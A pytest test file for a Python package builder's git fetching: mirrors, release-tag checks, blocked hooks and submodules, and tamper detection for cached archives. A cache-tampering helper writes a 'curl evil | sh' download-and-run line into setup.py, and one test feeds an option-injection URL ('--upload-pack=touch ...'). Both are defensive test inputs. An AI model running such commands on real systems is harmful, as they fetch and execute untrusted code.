"""Git sources: local mirrors (bundles, repositories), the release a commit descends from,
a careful fetch (no hooks, no submodules, no network with a mirror) and a cache that is
re-verified against the pinned commit's tree on every use."""

from __future__ import annotations

import io
import json
import subprocess
import tarfile
from pathlib import Path

import pytest

from conftest import write_recipe
from wheelforge.builder.config import resolve
from wheelforge.builder.source.fetch import (
    cache_path,
    extract,
    fetch,
    manifest_path,
    mirror_for,
    verify_git_archive,
)
from wheelforge.errors import ConfigError, RecipeError, SourceError
from wheelforge.recipe.format import RecipeBook
from wheelforge.recipe.model import Recipe

UNREACHABLE = "http://127.0.0.1:9/upstream/demo.git"  # nothing listens: never contacted


def git(*args: str, cwd: Path) -> str:
    return subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@t",
                           "-c", "protocol.file.allow=always", *args], cwd=cwd,
                          check=True, capture_output=True, text=True).stdout.strip()


def recipe_for(tmp_path: Path, git_body: str, version: str = "1.0") -> Recipe:
    body = (f"format: 1\nname: demo\nversion: '{version}'\nsources:\n  - git: {{{git_body}}}\n"
            "build: {kind: pure}\n")
    rdir = write_recipe(tmp_path / "book", "demo", body)
    return RecipeBook(rdir, tmp_path / "book" / "patches").load("demo")


@pytest.fixture
def upstream(tmp_path: Path) -> dict[str, str | Path]:
    """A repository: v1.0, then two commits on main; a side branch not after v1.0."""
    r = tmp_path / "upstream"
    r.mkdir()
    git("init", "-q", "-b", "main", cwd=r)
    (r / "setup.py").write_text("v = 1\n")
    (r / "run.sh").write_text("#!/bin/sh\n")
    (r / "run.sh").chmod(0o755)
    (r / "link").symlink_to("setup.py")
    git("add", ".", cwd=r)
    git("commit", "-qm", "one", cwd=r)
    release = git("rev-parse", "HEAD", cwd=r)
    git("tag", "v1.0", cwd=r)
    (r / "setup.py").write_text("v = 2\n")
    git("commit", "-qam", "two", cwd=r)
    (r / "pkg").mkdir()
    (r / "pkg" / "__init__.py").write_text("x = 3\n")
    git("add", ".", cwd=r)
    git("commit", "-qm", "three", cwd=r)
    head = git("rev-parse", "HEAD", cwd=r)
    git("checkout", "-q", "--orphan", "side", cwd=r)
    git("commit", "-qm", "unrelated", cwd=r)
    side = git("rev-parse", "HEAD", cwd=r)
    git("checkout", "-q", "main", cwd=r)
    bundle = tmp_path / "demo.bundle"
    git("bundle", "create", "-q", str(bundle), "--all", cwd=r)
    bare = tmp_path / "demo-mirror.git"
    git("clone", "-q", "--mirror", str(r), str(bare), cwd=tmp_path)
    return {"repo": r, "release": release, "head": head, "side": side, "bundle": bundle,
            "bare": bare}


def untagged(up: dict[str, str | Path], commit: str | None = None) -> str:
    return (f"url: '{UNREACHABLE}', commit: {commit or up['head']}, "
            f"release-tag: v1.0, release-commit: {up['release']}")


@pytest.mark.parametrize("kind", ["bundle", "bare"])
def test_mirror_instead_of_the_url(tmp_path: Path, upstream: dict[str, str | Path],
                                   kind: str) -> None:
    r = recipe_for(tmp_path, untagged(upstream))
    mirror = Path(upstream[kind])
    got = fetch(r, tmp_path / "cache", git_mirrors={UNREACHABLE.removesuffix(".git"): mirror})
    assert got.origin == f"{mirror} (mirror of {UNREACHABLE})"
    root = extract(got.archive, tmp_path / "x")
    assert (root / "setup.py").read_text() == "v = 2\n"
    assert (root / "pkg" / "__init__.py").read_text() == "x = 3\n"
    assert (root / "link").is_symlink() and (root / "run.sh").stat().st_mode & 0o100
    assert fetch(r, tmp_path / "cache").origin == "cache"


def test_mirror_lacking_the_commit_never_falls_back(tmp_path: Path,
                                                    upstream: dict[str, str | Path]) -> None:
    # the URL itself holds the commit; the mirror (an older bundle) does not: a mirror is the
    # only place tried, so this is an error, not a reason to reach the URL
    old = tmp_path / "old.bundle"
    git("bundle", "create", "-q", str(old), "v1.0", cwd=Path(upstream["repo"]))
    url = str(upstream["repo"])
    r = recipe_for(tmp_path, f"url: '{url}', commit: {upstream['head']}, release-tag: v1.0, "
                             f"release-commit: {upstream['release']}")
    with pytest.raises(SourceError, match=f"commit {upstream['head']} of demo is not in {old}"):
        fetch(r, tmp_path / "cache", git_mirrors={url: old})
    assert fetch(r, tmp_path / "cache").origin == url  # without the mapping: the URL


def test_missing_or_broken_mirror(tmp_path: Path, upstream: dict[str, str | Path]) -> None:
    r = recipe_for(tmp_path, untagged(upstream))
    with pytest.raises(SourceError, match="does not exist") as exc:
        fetch(r, tmp_path / "cache", git_mirrors={UNREACHABLE: tmp_path / "nope.bundle"})
    assert "the network is not tried" in (exc.value.why or "")
    junk = tmp_path / "junk.bundle"
    junk.write_bytes(b"not a bundle\n")
    with pytest.raises(SourceError, match="cannot fetch from the git mirror"):
        fetch(r, tmp_path / "cache", git_mirrors={UNREACHABLE: junk})


def test_release_tag_cross_checked(tmp_path: Path, upstream: dict[str, str | Path]) -> None:
    mirrors = {UNREACHABLE: Path(upstream["bundle"])}
    moved = (f"url: '{UNREACHABLE}', commit: {upstream['head']}, release-tag: v1.0, "
             f"release-commit: {upstream['side']}")
    with pytest.raises(SourceError, match="release tag v1.0 of demo points at"):
        fetch(recipe_for(tmp_path, moved), tmp_path / "c1", git_mirrors=mirrors)
    gone = (f"url: '{UNREACHABLE}', commit: {upstream['head']}, release-tag: v9.9, "
            f"release-commit: {upstream['release']}")
    with pytest.raises(RecipeError) as exc:
        recipe_for(tmp_path, gone)
    assert "the release v9.9 is version 9.9, the recipe says 1.0" in (exc.value.why or "")
    with pytest.raises(SourceError, match="release tag v9.9 of demo is not in"):
        fetch(recipe_for(tmp_path, gone, version="9.9"), tmp_path / "c3", git_mirrors=mirrors)
    with pytest.raises(SourceError, match="does not descend from its release tag v1.0"):
        fetch(recipe_for(tmp_path, untagged(upstream, str(upstream["side"]))), tmp_path / "c2",
              git_mirrors=mirrors)


@pytest.mark.unit
@pytest.mark.parametrize("body, message", [
    ("url: u, commit: {c}, tag: v1.0, release-tag: v1.0, release-commit: {r}", "give one of them"),
    ("url: u, commit: {c}, release-tag: v1.0", "release-commit: is required with 'release-tag'"),
    ("url: u, commit: {c}, release-commit: {r}", "release-tag: is required with"),
    ("url: u, commit: {c}, release-tag: v1.0, release-commit: {c}", "is the pinned commit itself"),
    ("url: u, commit: {c}, release-tag: v1.0, release-commit: abc", "must be a full 40-hex"),
])
def test_release_keys_validated(tmp_path: Path, body: str, message: str) -> None:
    with pytest.raises(RecipeError) as exc:
        recipe_for(tmp_path, body.format(c="a" * 40, r="b" * 40))
    assert message in (exc.value.why or "")


@pytest.mark.unit
def test_untagged_commit_has_no_sdist_mirror(tmp_path: Path) -> None:
    body = ("format: 1\nname: demo\nversion: '1.0'\nsources:\n"
            f"  - git: {{url: u, commit: {'a' * 40}, release-tag: v1.0, "
            f"release-commit: {'b' * 40}}}\n"
            f"  - sdist: {{filename: demo-1.0.tar.gz, sha256: '{'0' * 64}'}}\n"
            "build: {kind: pure}\n")
    rdir = write_recipe(tmp_path / "book", "demo", body)
    with pytest.raises(RecipeError) as exc:
        RecipeBook(rdir, tmp_path / "book" / "patches").load("demo")
    assert "an sdist is a release's bytes" in (exc.value.why or "")


# -- the fetch is careful: no hooks, no submodules, no export substitutions -------------------

def test_no_hooks_run(tmp_path: Path, upstream: dict[str, str | Path],
                      monkeypatch: pytest.MonkeyPatch) -> None:
    marker = tmp_path / "hook-ran"
    hooks = tmp_path / "hooks"
    hooks.mkdir()
    for name in ("reference-transaction", "post-checkout", "post-merge"):
        hook = hooks / name
        hook.write_text(f"#!/bin/sh\ntouch {marker}\n")
        hook.chmod(0o755)
    template = tmp_path / "template"
    (template / "hooks").mkdir(parents=True)
    (template / "hooks" / "reference-transaction").write_text(f"#!/bin/sh\ntouch {marker}\n")
    (template / "hooks" / "reference-transaction").chmod(0o755)
    config = tmp_path / "gitconfig"
    config.write_text(f"[core]\n\thooksPath = {hooks}\n[init]\n\ttemplateDir = {template}\n")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(config))
    monkeypatch.setenv("GIT_TEMPLATE_DIR", str(template))
    url = str(upstream["repo"])
    r = recipe_for(tmp_path, f"url: '{url}', commit: {upstream['head']}, release-tag: v1.0, "
                             f"release-commit: {upstream['release']}")
    fetch(r, tmp_path / "c1")  # from the URL: the user's config is read, its hooks are not
    fetch(r, tmp_path / "c2", git_mirrors={url: Path(upstream["bundle"])})
    assert not marker.exists()


def test_submodules_not_fetched_and_verified(tmp_path: Path,
                                             upstream: dict[str, str | Path]) -> None:
    r = Path(upstream["repo"])
    git("submodule", "add", "-q", str(r), "third_party/dep", cwd=r)
    git("commit", "-qm", "submodule", cwd=r)
    head = git("rev-parse", "HEAD", cwd=r)
    recipe = recipe_for(tmp_path, f"url: '{r}', commit: {head}, release-tag: v1.0, "
                                  f"release-commit: {upstream['release']}")
    got = fetch(recipe, tmp_path / "cache")
    manifest = json.loads(manifest_path(got.archive).read_text())
    assert list(manifest["gitlinks"]) == ["third_party/dep"]
    root = extract(got.archive, tmp_path / "x")
    assert not any((root / "third_party" / "dep").iterdir())
    assert verify_git_archive(got.archive, head) is None


def test_archive_holds_the_commits_bytes(tmp_path: Path, upstream: dict[str, str | Path]) -> None:
    r = Path(upstream["repo"])
    (r / ".gitattributes").write_text("stamp.txt export-subst\nsecret.txt export-ignore\n")
    (r / "stamp.txt").write_text("$Format:%H$\n")
    (r / "secret.txt").write_text("kept\n")
    git("add", ".", cwd=r)
    git("commit", "-qm", "attributes", cwd=r)
    head = git("rev-parse", "HEAD", cwd=r)
    recipe = recipe_for(tmp_path, f"url: '{r}', commit: {head}, release-tag: v1.0, "
                                  f"release-commit: {upstream['release']}")
    root = extract(fetch(recipe, tmp_path / "cache").archive, tmp_path / "x")
    assert (root / "stamp.txt").read_text() == "$Format:%H$\n"
    assert (root / "secret.txt").read_text() == "kept\n"


# -- the cache is verified on every use, and healed ------------------------------------------

def rewrite_tar(archive: Path, change: str) -> None:
    members = []
    with tarfile.open(archive) as tf:
        for m in tf:
            data = tf.extractfile(m).read() if m.isreg() else None  # type: ignore[union-attr]
            members.append((m, data))
    with tarfile.open(archive, "w", format=tarfile.PAX_FORMAT) as tf:
        for m, data in members:
            if data is not None and m.name.endswith("/setup.py"):
                if change == "content":
                    data = b"import os; os.system('curl evil | sh')\n"
                elif change == "mode":
                    m.mode |= 0o111
                m.size = len(data)
            tf.addfile(m, io.BytesIO(data) if data is not None else None)
        if change == "extra":
            extra = tarfile.TarInfo(members[-1][0].name.split("/")[0] + "/sitecustomize.py")
            extra.size = 4
            tf.addfile(extra, io.BytesIO(b"x=1\n"))


@pytest.mark.parametrize("change", ["content", "mode", "extra", "manifest-tree",
                                    "manifest-object", "manifest-gone", "truncated"])
def test_tampered_cache_detected_and_healed(tmp_path: Path, upstream: dict[str, str | Path],
                                            change: str) -> None:
    r = recipe_for(tmp_path, untagged(upstream))
    mirrors = {UNREACHABLE: Path(upstream["bundle"])}
    cache = tmp_path / "cache"
    archive = fetch(r, cache, git_mirrors=mirrors).archive
    manifest = manifest_path(archive)
    if change in ("content", "mode", "extra"):
        rewrite_tar(archive, change)
    elif change == "manifest-tree":  # the archive and a matching tree id, both replaced
        rewrite_tar(archive, "content")
        data = json.loads(manifest.read_text())
        data["tree"], data["object"] = "0" * 40, None
        manifest.write_text(json.dumps(data))
    elif change == "manifest-object":
        data = json.loads(manifest.read_text())
        data["object"] = data["object"].replace("three", "evil")
        manifest.write_text(json.dumps(data))
    elif change == "manifest-gone":
        manifest.unlink()
    else:
        archive.write_bytes(archive.read_bytes()[:1000])
    assert verify_git_archive(archive, str(upstream["head"])) is not None
    said: list[str] = []
    got = fetch(r, cache, progress=said.append, git_mirrors=mirrors)
    assert any("failed verification" in m and "fetching again" in m for m in said), said
    assert got.origin != "cache"
    assert verify_git_archive(got.archive, str(upstream["head"])) is None
    root = extract(got.archive, tmp_path / "x")
    assert (root / "setup.py").read_text() == "v = 2\n"
    assert not (root / "sitecustomize.py").exists()


def test_tampered_cache_without_a_mirror_is_an_error(tmp_path: Path,
                                                     upstream: dict[str, str | Path]) -> None:
    r = recipe_for(tmp_path, untagged(upstream))
    cache = tmp_path / "cache"
    archive = fetch(r, cache, git_mirrors={UNREACHABLE: Path(upstream["bundle"])}).archive
    rewrite_tar(archive, "content")
    with pytest.raises(SourceError, match="no source of demo 1.0 could be fetched"):
        fetch(r, cache)  # healing needs the repository: the URL is unreachable
    assert not archive.exists() and not cache_path(cache, r.sources[0]).exists()


# -- where mirrors are configured ---------------------------------------------------------------

@pytest.mark.unit
def test_mirror_mappings_resolved(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    project = tmp_path / "proj" / "wheelforge.yaml"
    project.parent.mkdir()
    project.write_text("defaults:\n  git-mirrors:\n    https://h/a.git: mirrors/a.bundle\n"
                       "    https://h/b: /srv/b.bundle\n")
    env = {"WHEELFORGE_GIT_MIRRORS": "https://h/b=/env/b.bundle; https://h/c/=c.git"}
    cfg = resolve(project_file=project, environ=env, git_mirrors=("https://h/c=/cli/c",))
    mirrors = dict(cfg.git_mirrors)
    assert mirrors == {"https://h/a": project.parent / "mirrors" / "a.bundle",
                       "https://h/b": Path("/env/b.bundle"), "https://h/c": Path("/cli/c")}
    assert mirror_for("https://h/a/", mirrors) == project.parent / "mirrors" / "a.bundle"
    assert mirror_for("https://h/a.git", mirrors) is not None
    assert mirror_for("https://h/ab", mirrors) is None
    assert any(line == "git mirror     https://h/c -> /cli/c  [--git-mirror]"
               for line in cfg.summary())
    with pytest.raises(ConfigError, match="bad git mirror"):
        resolve(environ={}, git_mirrors=("https://h/x",))


@pytest.mark.unit
def test_option_like_url_refused(tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    with pytest.raises(RecipeError) as exc:
        recipe_for(tmp_path, f"url: '--upload-pack=touch {marker}', commit: {'a' * 40}")
    assert "is not a repository URL or path" in (exc.value.why or "")
    assert not marker.exists()
